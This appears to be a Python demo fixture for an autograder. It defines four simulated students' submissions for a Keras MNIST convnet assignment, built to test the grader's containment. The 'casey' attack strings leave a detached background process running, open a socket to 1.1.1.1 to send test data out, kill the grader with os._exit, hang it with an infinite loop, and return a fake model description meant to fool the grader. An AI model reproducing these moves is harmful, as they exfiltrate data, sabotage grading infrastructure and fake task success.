"""The demo class for assignment 03 (``make demo``, tests/test_demo_mnist.py).

ada is complete and correct and hands in her trained model; brook makes typical mistakes (images
not divided by 255, lecture 001's network where the Functional version of section 3's was asked
for, a model trained on unnormalised pixels); casey attacks the grader in every function, and
leaves preprocess_images correct so that the containment shows; drew never started and hands in
no model.

Handed-in files come from the mutant catalogue's ``model_file`` (tests/mutants/mnist_convnet.py):
made once with the reference code on the active data profile and cached under COURSE_DATA_DIR
(about 10 s on the embedded profile the first time, nothing afterwards).
"""

import shutil
from pathlib import Path

from autograder.demo import _catalogue, _mutant
from autograder.submissions import build_submission

ASSIGNMENT = "03_mnist_convnet"
ARTIFACT = "mnist_convnet.keras"

ATTACKS = {
    "preprocess_images": '''
import socket
import subprocess


def preprocess_images(images):
    subprocess.Popen(["sleep", "600"], start_new_session=True)  # left running on purpose
    try:
        socket.create_connection(("1.1.1.1", 80), timeout=2).sendall(b"the grader's test images")
    except OSError:
        pass
    return np.asarray(images)[..., np.newaxis].astype(np.float32) / 255
''',
    "build_mnist_convnet": '''
def build_mnist_convnet():
    # No model at all: a description shaped like the grader's, in the hope that it is taken as is.
    shapes = [(26, 26, 32), (13, 13, 32), (11, 11, 64), (5, 5, 64), (3, 3, 64), (576,), (64,), (10,)]
    return {"class": "Sequential", "input_shape": [None, 28, 28, 1], "total_params": 93322,
            "layers": [{"type": "Conv2D", "output_shape": [None, *shape]} for shape in shapes],
            "compiled": True, "optimizer": "RMSprop", "learning_rate": 0.001,
            "loss": "sparse_categorical_crossentropy", "metrics": ["accuracy"]}
''',
    "build_mnist_convnet_functional": '''
import os


def build_mnist_convnet_functional():
    os._exit(0)  # take the grader down with it?
''',
    "build_convnet_without_pooling": '''
def build_convnet_without_pooling():
    while True:  # never returns
        pass
''',
}

MISTAKES = {  # target -> mutant name in tests/mutants/mnist_convnet.py
    "preprocess_images": "forgets to divide by 255",
    "build_mnist_convnet_functional": "lecture 001's network: 128 filters, no Dense(64)",
}

HANDED_IN = {  # student -> kind of model file (see MODEL_RECIPES in the catalogue); None: nothing
    "ada": "trained",
    "brook": "unnormalised",  # trained on raw pixels, like brook's preprocess_images
    "casey": "lambda_layer",  # Python code inside the model file: safe mode refuses it
    "drew": None,
}


def students(folder=None):
    """The four demo students' notebooks; their model files go into ``folder/<student>/``."""
    catalogue = _catalogue("mnist_convnet")
    mistakes = {target: _mutant(catalogue, target, name) for target, name in MISTAKES.items()}
    if folder is not None:
        for student, kind in HANDED_IN.items():
            if kind is not None:
                (Path(folder) / student).mkdir(parents=True, exist_ok=True)
                shutil.copy(catalogue.model_file(kind), Path(folder) / student / ARTIFACT)
    return {
        "ada": build_submission(ASSIGNMENT),
        "brook": build_submission(ASSIGNMENT, mistakes, written=False),
        "casey": build_submission(ASSIGNMENT, ATTACKS, written=False),
        "drew": build_submission(ASSIGNMENT, started=False),
    }
